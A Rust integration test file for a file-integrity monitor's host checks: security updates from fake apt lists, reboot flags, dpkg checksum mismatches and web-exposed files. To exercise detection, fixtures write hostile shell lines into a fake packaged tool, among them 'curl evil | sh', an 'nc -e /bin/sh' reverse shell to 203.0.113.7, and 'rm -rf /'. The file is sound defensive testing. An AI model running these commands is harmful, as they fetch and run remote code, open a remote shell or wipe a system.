//! Host checks (`[host]`): security updates from fake apt/dpkg trees under a test
//! `root`, reboots, package files against dpkg's checksums (a fake package naming files
//! of the watched tree, and the real dpkg database read-only), exposed files asked of
//! a local site.

mod common;
#[path = "common/servers.rs"]
#[allow(dead_code)]
mod servers;

use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use common::*;
use md5::{Digest, Md5};
use serde_json::Value;

/// A fake host under the test's folder: dpkg's database, apt's lists, dpkg.log, /run.
struct FakeRoot {
    root: PathBuf,
}

const SECURITY_RELEASE: &str = "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\n\
    Origin: Debian\nLabel: Debian-Security\nSuite: stable-security\nCodename: bookworm-security\n\
    Date: Mon, 30 Nov 2026 10:00:00 UTC\n";
const MAIN_RELEASE: &str = "Origin: Debian\nLabel: Debian\nSuite: stable\nCodename: bookworm\n";

impl FakeRoot {
    fn new(env: &Env) -> FakeRoot {
        let root = env.base.join("fakeroot");
        for dir in ["var/lib/dpkg/info", "var/lib/apt/lists", "var/log", "run"] {
            std::fs::create_dir_all(root.join(dir)).unwrap();
        }
        std::fs::write(root.join("var/log/dpkg.log"), "").unwrap();
        FakeRoot { root }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.root.join(rel)
    }

    /// dpkg's status with these (name, arch, version) installed, plus a removed one.
    fn installed(&self, packages: &[(&str, &str, &str)]) {
        let mut text = String::new();
        for (name, arch, version) in packages {
            text.push_str(&format!(
                "Package: {name}\nStatus: install ok installed\nPriority: optional\n\
                 Architecture: {arch}\nVersion: {version}\nDescription: {name}\n a package\n\n"
            ));
        }
        text.push_str("Package: removed\nStatus: deinstall ok config-files\nArchitecture: all\nVersion: 0.1\n");
        std::fs::write(self.path("var/lib/dpkg/status"), text).unwrap();
    }

    /// A package owning `files` (with their current content's checksums).
    fn package(&self, name: &str, files: &[&Path]) {
        let info = self.path("var/lib/dpkg/info");
        let list: String = files.iter().map(|f| format!("{}\n", f.display())).collect();
        std::fs::write(info.join(format!("{name}.list")), list).unwrap();
        let sums: String = files
            .iter()
            .map(|f| {
                let rel = f.strip_prefix("/").unwrap();
                format!(
                    "{}  {}\n",
                    md5_hex(&std::fs::read(f).unwrap()),
                    rel.display()
                )
            })
            .collect();
        std::fs::write(info.join(format!("{name}.md5sums")), sums).unwrap();
    }

    fn list(&self, name: &str, text: &[u8]) {
        std::fs::write(self.path("var/lib/apt/lists").join(name), text).unwrap();
    }

    fn dpkg_log(&self, line: &str) {
        let mut log = std::fs::OpenOptions::new()
            .append(true)
            .open(self.path("var/log/dpkg.log"))
            .unwrap();
        writeln!(log, "{line}").unwrap();
    }
}

fn md5_hex(bytes: &[u8]) -> String {
    Md5::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn packages_paragraphs(packages: &[(&str, &str, &str)]) -> String {
    packages
        .iter()
        .map(|(name, arch, version)| {
            format!("Package: {name}\nVersion: {version}\nArchitecture: {arch}\nMaintainer: x\n\n")
        })
        .collect()
}

fn lz4(text: &str) -> Vec<u8> {
    let mut encoder = lz4_flex::frame::FrameEncoder::new(Vec::new());
    encoder.write_all(text.as_bytes()).unwrap();
    encoder.finish().unwrap()
}

fn gzip(text: &str) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(text.as_bytes()).unwrap();
    encoder.finish().unwrap()
}

fn host_policy(fake: &FakeRoot, host: &str) -> String {
    format!(
        "[[watch]]\npath = \"ROOT\"\n\n[host]\nroot = \"{}\"\n{host}",
        fake.root.display()
    )
}

fn of_kind<'a>(events: &'a [Value], kind: &str) -> Vec<&'a Value> {
    events.iter().filter(|e| e["kind"] == kind).collect()
}

/// The one file event about `path` (detections name paths too).
fn file_event_of<'a>(events: &'a [Value], path: &Path) -> &'a Value {
    let files: Vec<Value> = events
        .iter()
        .filter(|e| e["category"] == "file")
        .cloned()
        .collect();
    let id = event_for(&files, path)["id"].clone();
    events.iter().find(|e| e["id"] == id).unwrap()
}

fn local_now() -> String {
    chrono::Local::now().format("%Y-%m-%d %H:%M:%S").to_string()
}

fn set_mtime(path: &Path, ago: Duration) {
    let file = std::fs::File::options().write(true).open(path).unwrap();
    file.set_modified(SystemTime::now() - ago).unwrap();
}

#[test]
fn security_updates_from_the_cached_lists_with_debian_version_order() {
    let env = Env::new();
    let fake = FakeRoot::new(&env);
    fake.installed(&[
        ("openssl", "amd64", "3.0.11-1~deb12u2"),
        ("nginx", "amd64", "1.22.1-9"),
        ("libc6", "amd64", "2.36-9+deb12u4"),
        ("bind9", "amd64", "1:9.18.28-1~deb12u2"),
        ("tzdata", "all", "2024a-0+deb12u1"),
        ("curl", "amd64", "7.88.1-10+deb12u8"),
        ("vim", "amd64", "2:9.0.1378-2"),
    ]);
    let security = "deb.debian.org_debian-security_dists_bookworm-security";
    fake.list(
        &format!("{security}_InRelease"),
        SECURITY_RELEASE.as_bytes(),
    );
    // lz4 as Debian's images keep them, gzip as others do.
    fake.list(
        &format!("{security}_main_binary-amd64_Packages.lz4"),
        &lz4(&packages_paragraphs(&[
            ("openssl", "amd64", "3.0.15-1~deb12u1"),
            ("nginx", "amd64", "1.22.1-9+deb12u2"),
            ("nginx", "amd64", "1.22.1-9+deb12u1"),
            ("libc6", "amd64", "2.36-9+deb12u10"),
            // Older than installed: the tilde sorts first.
            ("curl", "amd64", "7.88.1-10+deb12u8~pre1"),
            // An epoch wins over a bigger upstream version.
            ("bind9", "amd64", "1:9.18.33-1~deb12u2"),
            // Not installed.
            ("postgresql-15", "amd64", "15.10-0+deb12u1"),
            // Installed for another architecture only.
            ("libc6", "i386", "2.99-1"),
        ])),
    );
    fake.list(
        &format!("{security}_main_binary-all_Packages.gz"),
        &gzip(&packages_paragraphs(&[(
            "tzdata",
            "all",
            "2025b-0+deb12u1",
        )])),
    );
    // A newer version outside the security suite is not a security update.
    let main = "deb.debian.org_debian_dists_bookworm";
    fake.list(&format!("{main}_InRelease"), MAIN_RELEASE.as_bytes());
    fake.list(
        &format!("{main}_main_binary-amd64_Packages"),
        packages_paragraphs(&[
            ("vim", "amd64", "2:9.1.0-1"),
            ("nginx", "amd64", "1.26.0-1"),
        ])
        .as_bytes(),
    );
    let policy = env.init_with_policy(&host_policy(&fake, "exposure = false\n"));
    let events = env.verify();
    let updates = of_kind(&events, "security-updates");
    assert_eq!(updates.len(), 1, "{events:#?}");
    let update = updates[0];
    assert_eq!(update["category"], "host");
    assert_eq!(update["rule"], "security-updates");
    assert_eq!(update["lists_age_days"], 0);
    let packages: Vec<(String, String, String)> = update["packages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            let s = |k: &str| p[k].as_str().unwrap().to_owned();
            (s("name"), s("installed"), s("available"))
        })
        .collect();
    let expected = [
        ("bind9", "1:9.18.28-1~deb12u2", "1:9.18.33-1~deb12u2"),
        ("libc6", "2.36-9+deb12u4", "2.36-9+deb12u10"),
        ("nginx", "1.22.1-9", "1.22.1-9+deb12u2"),
        ("openssl", "3.0.11-1~deb12u2", "3.0.15-1~deb12u1"),
        ("tzdata", "2024a-0+deb12u1", "2025b-0+deb12u1"),
    ];
    let expected: Vec<(String, String, String)> = expected
        .iter()
        .map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string()))
        .collect();
    assert_eq!(packages, expected);
    assert_eq!(update["count"], 5);
    assert!(update["summary"]
        .as_str()
        .unwrap()
        .starts_with("5 packages"));
    // Other kinds' fields are absent, not null.
    for key in ["path", "url", "status", "package"] {
        assert!(update.get(key).is_none(), "{key} in {update}");
    }

    // Lists a month old: still said, with their age and a reason.
    let release = fake.path(&format!("var/lib/apt/lists/{security}_InRelease"));
    set_mtime(&release, Duration::from_secs(30 * 86_400 + 60));
    let run = env.fim(&["verify", "--policy", policy.to_str().unwrap()]);
    let events = run.events();
    let update = of_kind(&events, "security-updates")[0];
    assert_eq!(update["lists_age_days"], 30);
    assert!(
        reasons(update).iter().any(|r| r.contains("30 days old")),
        "{update}"
    );
    assert!(run.stderr.contains("apt-get update"), "{}", run.stderr);
}

#[test]
fn no_lists_or_an_rpm_system_is_said_not_guessed() {
    let env = Env::new();
    let fake = FakeRoot::new(&env);
    fake.installed(&[("nginx", "amd64", "1.22.1-9")]);
    std::fs::remove_dir_all(fake.path("var/lib/apt")).unwrap();
    std::fs::create_dir_all(fake.path("var/lib/rpm")).unwrap();
    env.init_with_policy(&host_policy(&fake, "exposure = false\n"));
    let run = env.fim(&["verify"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.contains("RPM system"), "{}", run.stderr);
    assert_eq!(
        run.stderr.matches("RPM system").count(),
        1,
        "{}",
        run.stderr
    );
}

#[test]
fn a_reboot_flag_and_an_older_running_kernel() {
    let env = Env::new();
    let fake = FakeRoot::new(&env);
    let running = String::from_utf8(
        std::process::Command::new("uname")
            .arg("-r")
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap()
    .trim()
    .to_owned();
    let current = format!("linux-image-{running}");
    fake.installed(&[
        (&current, "amd64", "6.1.100-1"),
        ("linux-image-amd64", "amd64", "6.1.200-1"),
    ]);
    env.init_with_policy(&host_policy(&fake, "exposure = false\n"));
    assert!(of_kind(&env.verify(), "reboot-required").is_empty());

    std::fs::write(
        fake.path("run/reboot-required"),
        "*** System restart required ***\n",
    )
    .unwrap();
    std::fs::write(
        fake.path("run/reboot-required.pkgs"),
        "libc6\nlinux-image-amd64\nlibc6\n",
    )
    .unwrap();
    fake.installed(&[
        (&current, "amd64", "6.1.100-1"),
        ("linux-image-amd64", "amd64", "6.1.200-1"),
        ("linux-image-99.0.0-1-amd64", "amd64", "6.1.200-1"),
    ]);
    let events = env.verify();
    let reboot = of_kind(&events, "reboot-required");
    assert_eq!(reboot.len(), 1, "{events:#?}");
    let reasons = reasons(reboot[0]);
    assert!(
        reasons[0].contains("reboot-required exists (for libc6, linux-image-amd64)"),
        "{reasons:?}"
    );
    assert!(
        reasons[1].contains(&format!(
            "running kernel {running} (6.1.100-1) is older than the installed 99.0.0-1-amd64"
        )),
        "{reasons:?}"
    );
}

/// A fake package whose files are in the watched tree.
fn packaged_tree(env: &Env, fake: &FakeRoot) -> (PathBuf, PathBuf) {
    std::fs::create_dir_all(env.path("bin")).unwrap();
    let tool = env.path("bin/tool");
    let doc = env.path("sub/page.html");
    std::fs::write(&tool, b"#!/bin/sh\necho packaged tool\n").unwrap();
    fake.installed(&[("faketool", "amd64", "1.0-1")]);
    fake.package("faketool", &[&tool, &doc]);
    (tool, doc)
}

#[test]
fn a_package_file_changed_is_detected_and_its_restoration_is_not() {
    let env = Env::new();
    let fake = FakeRoot::new(&env);
    let (tool, doc) = packaged_tree(&env, &fake);
    let original = std::fs::read(&tool).unwrap();
    env.init_with_policy(&host_policy(&fake, "updates = false\nexposure = false\n"));
    assert!(env.verify().is_empty());

    std::fs::write(&tool, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
    std::fs::write(&doc, b"<p>defaced</p>\n").unwrap();
    let events = env.verify();
    let changed = of_kind(&events, "package-file-changed");
    assert_eq!(changed.len(), 2, "{events:#?}");
    let for_tool = changed
        .iter()
        .find(|e| e["path"] == tool.to_str().unwrap())
        .unwrap();
    // A program: critical; a package's other file: high.
    assert_eq!(for_tool["severity"], "critical");
    assert_eq!(for_tool["package"], "faketool");
    assert_eq!(for_tool["category"], "host");
    let file_event = file_event_of(&events, &tool);
    assert_eq!(file_event["kind"], "modified");
    assert_eq!(for_tool["related"], serde_json::json!([file_event["id"]]));
    let for_doc = changed
        .iter()
        .find(|e| e["path"] == doc.to_str().unwrap())
        .unwrap();
    assert_eq!(for_doc["severity"], "high");

    // Back to the package's content: the file event stays (it differs from the
    // baseline's mtime), the package says nothing.
    std::fs::write(&tool, &original).unwrap();
    let events = env.verify();
    assert!(
        of_kind(&events, "package-file-changed").len() == 1,
        "{events:#?}"
    );
    assert!(of_kind(&events, "package-file-changed")[0]["path"] == doc.to_str().unwrap());
}

#[test]
fn a_package_upgrade_explains_its_own_files() {
    let env = Env::new();
    let fake = FakeRoot::new(&env);
    let (tool, _) = packaged_tree(&env, &fake);
    env.init_with_policy(&host_policy(&fake, "updates = false\nexposure = false\n"));

    // The upgrade: new content, dpkg's new checksums, and its line in dpkg.log.
    std::fs::write(&tool, b"#!/bin/sh\necho packaged tool, version 2\n").unwrap();
    fake.installed(&[("faketool", "amd64", "1.0-2")]);
    fake.package("faketool", &[&tool]);
    // Ten minutes ago: the upgrade is over (a file that differs now is not its doing).
    let then = (chrono::Local::now() - chrono::Duration::minutes(10))
        .format("%Y-%m-%d %H:%M:%S")
        .to_string();
    fake.dpkg_log(&format!("{then} upgrade faketool:amd64 1.0-1 1.0-2"));
    fake.dpkg_log(&format!("{then} status installed faketool:amd64 1.0-2"));
    let events = env.verify();
    assert!(
        of_kind(&events, "package-file-changed").is_empty(),
        "{events:#?}"
    );
    let file_event = file_event_of(&events, &tool);
    assert_eq!(file_event["severity"], "info");
    assert!(
        reasons(file_event).contains(&"package upgrade: faketool 1.0-1 → 1.0-2"),
        "{file_event}"
    );

    // A change that is not the package's, soon after its upgrade, is not explained
    // away: the upgrade is over, its checksums are dpkg's.
    std::fs::write(&tool, b"#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n").unwrap();
    let events = env.verify();
    let file_event = file_event_of(&events, &tool);
    assert_ne!(file_event["severity"], "info");
    assert!(!reasons(file_event).iter().any(|r| r.starts_with("package")));
    let changed = of_kind(&events, "package-file-changed");
    assert_eq!(changed.len(), 1, "{events:#?}");
    assert_eq!(changed[0]["related"], serde_json::json!([file_event["id"]]));
}

#[test]
fn the_full_package_pass_checks_every_package_file_of_the_watched_trees() {
    let env = Env::new();
    let fake = FakeRoot::new(&env);
    let (tool, _) = packaged_tree(&env, &fake);
    // Changed before the baseline: no file event will ever show it.
    std::fs::write(&tool, b"#!/bin/sh\nbackdoor\n").unwrap();
    env.init_with_policy(&host_policy(&fake, "updates = false\nexposure = false\n"));
    let events = env.verify();
    assert!(events.is_empty(), "without packages = true: {events:#?}");
    let policy = env.write_policy(&host_policy(
        &fake,
        "updates = false\nexposure = false\npackages = true\n",
    ));
    let run = env.fim(&["verify", "--policy", policy.to_str().unwrap()]);
    let events = run.events();
    assert_eq!(run.code, 1);
    let changed = of_kind(&events, "package-file-changed");
    assert_eq!(changed.len(), 1, "{events:#?}");
    assert_eq!(changed[0]["path"], tool.to_str().unwrap());
    assert_eq!(changed[0]["related"], serde_json::json!([]));
}

/// The host's real dpkg database, read-only: real package files all match.
#[test]
fn real_package_files_match_the_real_dpkg_database() {
    if !Path::new("/var/lib/dpkg/info/dpkg.md5sums").exists() {
        return skip("no dpkg database", Some("FIM_REQUIRE_DPKG"));
    }
    let env = Env::new();
    let policy = "[[watch]]\npath = \"/usr/share/dpkg\"\n\n[host]\nupdates = false\nexposure = false\npackages = true\n";
    env.init_with_policy(policy);
    let run = env.fim(&["verify", "-v"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let line = run
        .stderr
        .lines()
        .find(|l| l.contains("package files under the watched trees checked"))
        .unwrap_or_else(|| panic!("{}", run.stderr));
    let checked: usize = line
        .split_whitespace()
        .find_map(|w| w.parse().ok())
        .unwrap();
    assert!(checked >= 10, "{line}");
    assert!(line.ends_with(", 0 differ"), "{line}");
}

#[test]
fn watch_reports_package_changes_live_and_rechecks_after_a_package_operation() {
    let env = Env::new();
    let fake = FakeRoot::new(&env);
    let (tool, _) = packaged_tree(&env, &fake);
    let security = "deb.debian.org_debian-security_dists_bookworm-security";
    fake.list(
        &format!("{security}_InRelease"),
        SECURITY_RELEASE.as_bytes(),
    );
    fake.list(&format!("{security}_main_binary-amd64_Packages"), b"");
    let policy = env.init_with_policy(&host_policy(&fake, "exposure = false\n"));
    let mut daemon = Daemon::start(&env, &["--policy", policy.to_str().unwrap()]);
    std::fs::write(&tool, b"#!/bin/sh\nrm -rf /\n").unwrap();
    let file_event = daemon.expect("modified", &tool);
    let changed = daemon.expect("package-file-changed", &tool);
    assert_eq!(changed["related"], serde_json::json!([file_event["id"]]));
    assert_eq!(changed["source"], "watch");

    // A package operation: the next round (once dpkg.log is quiet) sees the flag.
    std::fs::write(fake.path("run/reboot-required"), "").unwrap();
    fake.dpkg_log(&format!(
        "{} upgrade libc6:amd64 2.36-9 2.36-9+deb12u10",
        local_now()
    ));
    let deadline = std::time::Instant::now() + Duration::from_secs(15);
    while !daemon
        .drain()
        .iter()
        .any(|e| e["kind"] == "reboot-required")
    {
        assert!(std::time::Instant::now() < deadline, "{:#?}", daemon.seen);
        std::thread::sleep(Duration::from_millis(200));
    }
    let (code, _, _) = daemon.stop();
    assert_eq!(code, 0);
}

#[test]
fn an_exposed_env_served_by_the_site_is_critical() {
    let env = Env::new();
    let fake = FakeRoot::new(&env);
    std::fs::write(env.path(".env"), "DB_PASSWORD=hunter2\n").unwrap();
    std::fs::create_dir_all(env.path(".git/objects/ab")).unwrap();
    std::fs::write(env.path(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(env.path(".git/config"), "[core]\n").unwrap();
    std::fs::write(env.path(".git/objects/ab/cd"), "x").unwrap();
    std::fs::write(env.path(".htaccess"), "Deny from all\n").unwrap();
    let site = servers::Site::start(&env.root, &["db.sql"]);
    let host = format!(
        "updates = false\nsites = [{{ url = \"{}/\", docroot = \"ROOT\" }}]\n",
        site.url()
    );
    let policy = env.init_with_policy(&host_policy(&fake, &host));

    // The round asks the site for what the tree holds.
    let events = env.verify();
    let exposed = of_kind(&events, "exposed-file");
    let env_file = exposed
        .iter()
        .find(|e| e["path"] == env.path(".env").to_str().unwrap())
        .unwrap_or_else(|| panic!("{events:#?}"));
    assert_eq!(env_file["severity"], "critical");
    assert_eq!(env_file["url"], format!("{}/.env", site.url()));
    assert_eq!(env_file["status"], 200);
    // .git once, as the folder, asked through its HEAD.
    let git = exposed
        .iter()
        .find(|e| e["path"] == env.path(".git").to_str().unwrap())
        .unwrap();
    assert_eq!(git["url"], format!("{}/.git/HEAD", site.url()));
    assert_eq!(exposed.len(), 2, "{events:#?}");

    // New entries: a dump the site refuses (still reported: it appeared), a backup of
    // a script it serves as text, a phpinfo it runs.
    std::fs::write(
        env.path("db.sql"),
        "INSERT INTO users VALUES ('admin', 'x');\n",
    )
    .unwrap();
    std::fs::write(env.path("index.php.bak"), "<?php $password = 'x';\n").unwrap();
    std::fs::write(env.path("sub/phpinfo.php"), "<?php phpinfo();\n").unwrap();
    std::fs::write(env.path("sub/notes.txt"), "nothing secret\n").unwrap();
    let run = env.fim(&["verify", "--policy", policy.to_str().unwrap()]);
    let events = run.events();
    let exposed_at = |rel: &str| -> Vec<&Value> {
        of_kind(&events, "exposed-file")
            .into_iter()
            .filter(|e| e["path"] == env.path(rel).to_str().unwrap())
            .collect()
    };
    let dump = exposed_at("db.sql");
    assert_eq!(dump.len(), 1, "{events:#?}");
    assert_eq!(dump[0]["severity"], "high");
    assert_eq!(dump[0]["status"], 403);
    assert_eq!(
        dump[0]["related"],
        serde_json::json!([file_event_of(&events, &env.path("db.sql"))["id"]])
    );
    // Reported by the file event and by the round: two events, both critical.
    for rel in ["index.php.bak", "sub/phpinfo.php"] {
        let found = exposed_at(rel);
        assert!(!found.is_empty(), "{rel}: {events:#?}");
        assert!(
            found.iter().all(|e| e["severity"] == "critical"),
            "{found:#?}"
        );
    }
    assert!(exposed_at("sub/notes.txt").is_empty());
    assert!(exposed_at(".htaccess").is_empty());
    assert!(!site.requested().iter().any(|r| r.contains("objects")));
}

#[test]
fn a_site_answering_everything_with_its_index_serves_nothing() {
    let env = Env::new();
    let fake = FakeRoot::new(&env);
    std::fs::write(env.path(".env"), "DB_PASSWORD=hunter2\n").unwrap();
    // A catch-all front controller: every path answers 200 with the same page.
    let pages = env.base.join("pages");
    std::fs::create_dir_all(&pages).unwrap();
    std::fs::write(pages.join(".env"), "<html>welcome</html>").unwrap();
    let site = servers::Site::start(&pages, &[]);
    let host = format!(
        "updates = false\nsites = [{{ url = \"{}\", docroot = \"ROOT\" }}]\n",
        site.url()
    );
    env.init_with_policy(&host_policy(&fake, &host));
    let events = env.verify();
    assert!(of_kind(&events, "exposed-file").is_empty(), "{events:#?}");
    assert_eq!(site.requested(), ["/.env"]);
}

#[test]
fn a_bad_host_table_is_refused_with_its_line() {
    let env = Env::new();
    let policy = env.write_policy("[[watch]]\npath = \"ROOT\"\n\n[host]\nupdates = 1\n");
    let run = env.fim(&["init", "--policy", policy.to_str().unwrap()]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("policy.toml:4") && run.stderr.contains("[host] updates"),
        "{}",
        run.stderr
    );
}

#[test]
fn host_detections_validate_as_ecs_and_ocsf() {
    let env = Env::new();
    let fake = FakeRoot::new(&env);
    let (tool, _) = packaged_tree(&env, &fake);
    std::fs::write(fake.path("run/reboot-required"), "").unwrap();
    let site = servers::Site::start(&env.root, &[]);
    let (ecs, ocsf) = (env.base.join("ecs.jsonl"), env.base.join("ocsf.jsonl"));
    let host = format!(
        "sites = [{{ url = \"{}\", docroot = \"ROOT\" }}]\n\n\
         [[sink]]\ntype = \"file\"\npath = \"{}\"\nformat = \"ecs\"\n\n\
         [[sink]]\ntype = \"file\"\npath = \"{}\"\nformat = \"ocsf\"\n",
        site.url(),
        ecs.display(),
        ocsf.display()
    );
    env.init_with_policy(&host_policy(&fake, &host));
    std::fs::write(&tool, b"changed").unwrap();
    std::fs::write(env.path(".env"), "SECRET=1\n").unwrap();
    let events = env.verify();
    for kind in ["reboot-required", "package-file-changed", "exposed-file"] {
        assert!(!of_kind(&events, kind).is_empty(), "{kind}: {events:#?}");
    }
    let Some(fields) = schemas() else { return };
    let ocsf_report = validate(&["ocsf", ocsf.to_str().unwrap()]);
    assert!(
        ocsf_report.contains(&format!("{} ocsf events checked, 0 problems", events.len())),
        "{ocsf_report}"
    );
    let ecs_report = validate(&["ecs", ecs.to_str().unwrap(), &fields]);
    assert!(
        ecs_report.contains(&format!("{} ecs events checked, 0 problems", events.len())),
        "{ecs_report}"
    );
}

/// An attacker's (or a broken system's) package state: garbage, FIFOs where files
/// should be, checksums that are not hex. fim neither hangs nor panics, and still
/// checks what can be checked.
#[test]
fn hostile_package_state_neither_hangs_nor_panics() {
    let env = Env::new();
    let fake = FakeRoot::new(&env);
    let (tool, doc) = packaged_tree(&env, &fake);
    env.init_with_policy(&host_policy(&fake, "packages = true\nexposure = false\n"));
    let security = "deb.debian.org_debian-security_dists_bookworm-security";
    fake.list(
        &format!("{security}_InRelease"),
        b"\xff\xfe\0garbage\n\n:::\n",
    );
    mkfifo(&fake.path(&format!(
        "var/lib/apt/lists/{security}_main_binary-amd64_Packages"
    )));
    fake.list(
        &format!("{security}_main_binary-i386_Packages.lz4"),
        b"not lz4 at all",
    );
    std::fs::remove_file(fake.path("var/log/dpkg.log")).unwrap();
    mkfifo(&fake.path("var/log/dpkg.log"));
    mkfifo(&fake.path("run/reboot-required.pkgs"));
    std::fs::write(fake.path("run/reboot-required"), "").unwrap();
    let sums = fake.path("var/lib/dpkg/info/faketool.md5sums");
    let mut text = std::fs::read_to_string(&sums).unwrap();
    text.push_str("zz  not/hex\n\n0123\n");
    std::fs::write(&sums, text).unwrap();
    // The packaged document becomes a FIFO, the tool is changed.
    std::fs::remove_file(&doc).unwrap();
    mkfifo(&doc);
    std::fs::write(&tool, b"changed").unwrap();
    let run = env.fim(&["verify"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let events = run.events();
    let changed = of_kind(&events, "package-file-changed");
    assert_eq!(changed.len(), 1, "{events:#?}");
    assert_eq!(changed[0]["path"], tool.to_str().unwrap());
    assert_eq!(of_kind(&events, "reboot-required").len(), 1);
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
}
